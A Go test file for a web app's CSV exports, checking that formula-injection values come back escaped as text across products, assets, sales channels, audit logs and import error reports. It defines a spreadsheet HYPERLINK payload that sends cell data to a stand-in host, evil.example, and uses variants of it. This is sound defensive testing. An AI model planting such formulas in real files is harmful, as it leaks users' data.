package web

import (
	"bytes"
	"context"
	"flag"
	"mime/multipart"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/phantomos/phantomos"
	"github.com/phantomos/phantomos/internal/store"
	"github.com/phantomos/phantomos/internal/store/storetest"
)

var update = flag.Bool("update", false, "rewrite golden files")

// payload is a formula that, unescaped, a spreadsheet would run on opening
// the file (it sends the neighbouring cell to another site).
const payload = `=HYPERLINK("http://evil.example/?x="&A1,"click")`

// checkGolden compares got with testdata/name, or rewrites it with -update.
func checkGolden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run with -update to create it)", err)
	}
	if diff := cmp.Diff(string(want), got); diff != "" {
		t.Errorf("%s (-want +got):\n%s", name, diff)
	}
}

// TestCSVExportsNeutraliseFormulas downloads every CSV the web app hands
// out, through HTTP, with a formula planted in a product, an asset, a game
// IP, a sales channel, an import cell and the audit log: each comes back
// as text (a leading quote) while numbers, negative ones included, stay
// numbers. The whole files are golden.
func TestCSVExportsNeutraliseFormulas(t *testing.T) {
	storetest.ForEachDialect(t, func(t *testing.T, s *store.Store) {
		ctx := context.Background()
		tn := newTenant(t, s, "csv")
		srv, ts := newTestServer(t, s)
		now := time.Date(2026, 11, 15, 12, 0, 0, 0, time.UTC)
		srv.SetClock(func() time.Time { return now })
		s.SetClock(func() time.Time { return now })
		g := &phantomos.GameIP{Name: payload, Slug: "evil"}
		if err := s.CreateGameIP(ctx, tn.pub.ID, g); err != nil {
			t.Fatal(err)
		}
		asset := &phantomos.Asset{GameIPID: g.ID, Name: "@" + payload[1:], AssetType: phantomos.AssetCharacter}
		if err := s.CreateAsset(ctx, tn.pub.ID, asset); err != nil {
			t.Fatal(err)
		}
		conn := &phantomos.Connector{Type: phantomos.ConnectorCSV, Name: "Files"}
		if err := s.CreateConnector(ctx, tn.pub.ID, conn); err != nil {
			t.Fatal(err)
		}
		products := []*phantomos.Product{
			{ConnectorID: conn.ID, ExternalID: "evil", Name: payload, Currency: "USD", Category: phantomos.CategoryApparel},
			{ConnectorID: conn.ID, ExternalID: "minus", Name: "-2+3", Currency: "USD", Category: phantomos.CategoryHome},
		}
		if err := s.CreateProducts(ctx, tn.pub.ID, products, nil); err != nil {
			t.Fatal(err)
		}
		if _, err := s.ReviewProduct(ctx, tn.pub.ID, products[0].ID, store.Review{Action: store.ReviewConfirm,
			Assets: []store.ReviewAsset{{AssetID: asset.ID, Primary: true}}}); err != nil {
			t.Fatal(err)
		}
		var sales []*phantomos.Sale
		for i, p := range products {
			net := int64(12345 * (i + 1))
			sales = append(sales, &phantomos.Sale{ProductID: p.ID, ConnectorID: conn.ID, ExternalOrderID: "o" + p.ExternalID, ExternalLineID: "1",
				OrderDate: time.Date(2026, 10, 3, 12, 0, 0, 0, time.UTC), Day: "2026-10-03", Quantity: 1, Gross: net, Net: net, Currency: "USD",
				NetReporting: net, GrossReporting: net, Country: "US", Channel: "+" + payload[1:]})
		}
		if _, err := s.BulkLoadSales(ctx, tn.pub.ID, slices.Values(sales)); err != nil {
			t.Fatal(err)
		}
		if err := s.Audit(ctx, tn.pub.ID, store.AuditEntry{Actor: payload, Action: "product.rename", Target: "-" + payload[1:],
			IP: "\t" + payload, Details: map[string]any{"name": payload}}); err != nil {
			t.Fatal(err)
		}
		ids := strings.NewReplacer(asset.ID, "ASSET", g.ID, "GAMEIP", products[0].ID, "PRODUCT0", products[1].ID, "PRODUCT1", conn.ID, "CONNECTOR")

		get := func(c *http.Cookie, path string) string {
			t.Helper()
			st, h, body := send(t, ts, c, http.MethodGet, path, "", "")
			if st != http.StatusOK || !strings.HasPrefix(h.Get("Content-Type"), "text/csv") {
				t.Fatalf("GET %s: %d %s\n%s", path, st, h.Get("Content-Type"), body)
			}
			if strings.Contains(body, "\n"+payload) || strings.Contains(body, ","+payload) || strings.Contains(body, `,"=`) || strings.Contains(body, "\n\"=") {
				t.Errorf("GET %s: a cell starts with the formula:\n%s", path, body)
			}
			return ids.Replace(body)
		}
		analyst := cookie(t, s, tn.users[phantomos.RoleAnalyst])
		checkGolden(t, "csv/overview.csv", get(analyst, "/overview.csv?from=2026-10-01&to=2026-10-31"))
		checkGolden(t, "csv/assets.csv", get(analyst, "/assets.csv?from=2026-10-01&to=2026-10-31"))
		checkGolden(t, "csv/audit.csv", get(cookie(t, s, tn.users[phantomos.RoleAdmin]), "/settings/audit.csv"))

		// The import error report repeats the bad cell.
		var mp bytes.Buffer
		mw := multipart.NewWriter(&mp)
		mw.WriteField("kind", "sales")
		mw.WriteField("format", "auto")
		fw, _ := mw.CreateFormFile("file", "orders.csv")
		fw.Write([]byte("order_id,date,sku,quantity,total,currency\nB1," + `"` + strings.ReplaceAll(payload, `"`, `""`) + `"` + ",X,2,10.00,USD\nB2,2026-01-05,X,-1,5.00,USD\n"))
		mw.Close()
		member := cookie(t, s, tn.users[phantomos.RoleMember])
		st, _, page := send(t, ts, member, http.MethodPost, "/products/import", mw.FormDataContentType(), mp.String())
		if st != http.StatusOK {
			t.Fatalf("upload: %d\n%s", st, page)
		}
		token := between(page, `name="token" value="`, `"`)
		checkGolden(t, "csv/import-errors.csv", get(member, "/products/import/errors.csv?token="+url.QueryEscape(token)))
	})
}
